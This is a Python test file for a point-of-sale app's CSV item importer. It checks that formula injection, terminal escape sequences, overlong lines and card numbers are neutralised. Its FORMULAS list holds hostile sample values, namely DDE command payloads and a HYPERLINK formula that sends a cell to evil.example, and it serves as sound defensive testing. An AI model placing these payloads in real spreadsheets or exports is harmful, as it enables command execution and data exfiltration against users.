"""Lists made to harm: formulas, lines and headings without end, zero bytes, commands for a terminal."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from pos_desktop.domain.items_csv import (
    MAX_COLUMNS,
    MAX_LINE,
    ItemReader,
    RejectWriter,
    bounded_lines,
    read_heading,
    split_line,
)
from pos_desktop.domain.items_row import ItemRow, ListProblemError, RowReject, TaxCode
from pos_desktop.domain.money import currency
from pos_desktop.domain.spreadsheet import csv_line, original_cell, safe_cell

TAXES = (TaxCode("S", 200_000),)
GBP = currency("GBP")
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+2+5+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
    "a;=1+1",
    "a,=1+1",
    "a\t@x",
    "'=1+1",
    "-",
]
RUN = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def runs(cell: str) -> bool:
    """Whether a spreadsheet would take the cell for a formula: it begins like one and is no plain number."""
    try:
        float(cell.replace(",", "").replace(" ", "").rstrip("%"))
    except ValueError:
        return cell.startswith(RUN)
    return False


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula_with_any_delimiter(text: str) -> None:
    assert original_cell(safe_cell(text)) == text
    for delimiter in ",;\t":
        line = csv_line(["A1", text, "-1.50"], delimiter)
        for opened_with in ",;\t":
            cells = next(csv.reader(io.StringIO(line), delimiter=opened_with))
            assert not any(runs(cell.strip('"')) for cell in cells), (line, opened_with)


@pytest.mark.parametrize(
    "number", ["-1", "-1.50", "+3", "-1,234.50", "12", "5 %", "-5%", "1.85", ".5", "-.5"]
)
def test_numbers_stay_numbers(number: str) -> None:
    assert safe_cell(number) == number


@given(st.text(max_size=30) | st.text("=+-@\t',;a1\r\n＝. %", max_size=10))
@example("'=1")
@example("\t\t=1")
def test_every_text_comes_back(text: str) -> None:
    safe = safe_cell(text)
    assert original_cell(safe) == text
    assert not runs(safe)


@given(
    st.lists(st.text(max_size=20) | st.sampled_from(FORMULAS), min_size=2, max_size=5),
    st.sampled_from(",;\t"),
)
def test_every_record_is_one_line_of_as_many_cells(cells: list[str], delimiter: str) -> None:
    line = csv_line(cells, delimiter)
    assert line.endswith("\r\n")
    assert len(line.splitlines()) == 1
    read = split_line(line, delimiter)
    assert len(read) == len(cells)
    for text, cell in zip(cells, read, strict=True):
        assert original_cell(cell).split() == text.replace("\0", " ").split()


def refused(text: str) -> str:
    """The file of rejects for a list."""
    lines = io.StringIO(text).readlines()
    heading = read_heading(lines[0])
    out: list[str] = []
    writer = RejectWriter(heading, out.append)
    for row in ItemReader(heading, TAXES, GBP).rows(lines[1:]):
        if isinstance(row, RowReject):
            writer.add(row, lines[row.line - 1])
    return "".join(out)


@pytest.mark.parametrize("name", [text for text in FORMULAS if text.strip() == text])
def test_a_refused_row_runs_nothing_and_goes_in_as_it_was_once_corrected(name: str) -> None:
    quoted = '"' + name.replace('"', '""') + '"'
    first = refused(f"codes;=heading();name;price\nA1;-5;{quoted};wrong\n").replace("\r\n", "\n")
    for line in first.splitlines():
        assert not any(runs(cell) for cell in split_line(line, ";"))
    assert refused(first).replace("\r\n", "\n").splitlines()[1] == first.splitlines()[1]
    corrected = first.replace(";wrong;", ";1.50;")
    heading, line = corrected.splitlines()
    row = ItemReader(read_heading(heading), TAXES, GBP).row(2, line)
    assert isinstance(row, ItemRow)
    assert row.name == " ".join(original_cell(name).split())


def test_a_card_number_in_a_refused_row_is_masked() -> None:
    out = refused("codes;name;price\n4111111111111111;Tea;1\nA1;pay 4111 1111 1111 1111;1\n")
    assert "this is a card number" in out
    assert "has a card number in it" in out
    assert "1111111" not in out.replace(" ", "")


def test_a_heading_of_a_million_columns_is_refused() -> None:
    for line in (
        "codes,name,price" + ",x" * (MAX_COLUMNS + 1),
        ("codes,name,price" + ",x" * 10**6)[:MAX_LINE],
    ):
        with pytest.raises(ListProblemError) as refusal:
            read_heading(line)
        assert len(str(refusal.value)) < 200
        assert "no list" in str(refusal.value) or "columns; at most" in str(refusal.value)


def test_commands_for_a_terminal_are_not_passed_on() -> None:
    with pytest.raises(ListProblemError) as refusal:
        read_heading("\x1b]0;title\x07,\x1b[2J")
    assert "\x1b" not in str(refusal.value)
    assert "\x1b" not in "".join(read_heading("codes,name,price,\x1b[2J").ignored)
    odd = ItemReader(read_heading("codes,name,price,\x1b[2J"), TAXES, GBP).row(2, "A1,Tea,1," + "x" * 5000)
    assert isinstance(odd, RowReject)
    assert odd.field.isprintable()


def test_quotes_that_never_close_cost_their_lines_only() -> None:
    text = "codes;name;price\n" + 'A1;"Tea;1\n' * 1000 + "A2;Milk;2\n"
    lines = io.StringIO(text).readlines()
    rows = list(ItemReader(read_heading(lines[0]), TAXES, GBP).rows(lines[1:]))
    assert sum(isinstance(row, RowReject) for row in rows) == 1000
    assert isinstance(rows[-1], ItemRow)


BOMB = """
import io, resource, sys
from pos_desktop.domain.items_csv import ItemReader, bounded_lines, encoding_of, read_heading
from pos_desktop.domain.items_row import ListProblemError, RowReject
from pos_desktop.domain.money import currency

before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
with open(sys.argv[1], "rb") as raw:
    encoding = encoding_of(iter(lambda: raw.read(1 << 20), b""))
said = []
with open(sys.argv[1], "rb") as raw, io.TextIOWrapper(raw, encoding=encoding, errors="replace") as text:
    lines = bounded_lines(text.readline)
    try:
        heading = read_heading(next(lines))
        said = [row.reason for row in ItemReader(heading, (), currency("GBP")).rows(lines)]
    except ListProblemError as problem:
        said = [str(problem)]
print(said[0].splitlines()[0])
print((resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024)
"""


@pytest.mark.parametrize(
    ("head", "says"),
    [(b"", "longer than 64 kB: this is no list"), (b"codes;name;price\n", "the line is longer than 64 kB")],
)
def test_a_line_without_an_end_takes_neither_memory_nor_words_away(
    tmp_path: Path, head: bytes, says: str
) -> None:
    """Shown with 64 MB; 2 GB took the same memory (docs/import-items.md has the figures)."""
    file = tmp_path / "bomb.csv"
    with file.open("wb") as out:
        out.write(head)
    os.truncate(file, int(os.environ.get("POS_DESKTOP_TEST_BOMB_MB", "64")) << 20)
    run = subprocess.run(
        [sys.executable, "-c", BOMB, str(file)], capture_output=True, text=True, check=True, timeout=120
    )
    said, megabytes = run.stdout.splitlines()
    assert says in said
    assert int(megabytes) < 24


def test_bounded_lines_keeps_the_beginning_of_a_long_line() -> None:
    text = io.StringIO("a" * (3 * MAX_LINE + 5) + "\nb\n")
    first, second = bounded_lines(text.readline)
    assert (len(first), second) == (MAX_LINE, "b\n")
